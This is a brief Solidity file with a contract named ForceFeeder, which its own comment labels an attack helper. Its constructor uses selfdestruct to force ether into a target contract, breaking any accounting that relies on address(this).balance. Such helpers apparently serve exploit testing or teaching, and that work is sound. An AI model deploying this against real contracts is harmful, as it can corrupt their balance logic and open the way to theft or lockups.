// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/// @title ForceFeeder
/// @notice Sends its ether to `target` by SELFDESTRUCT, which no receive or fallback can refuse: a house whose
/// accounting relied on `address(this).balance` would be broken by it. Attack helper.
contract ForceFeeder {
    constructor(address payable target) payable {
        selfdestruct(target);
    }
}
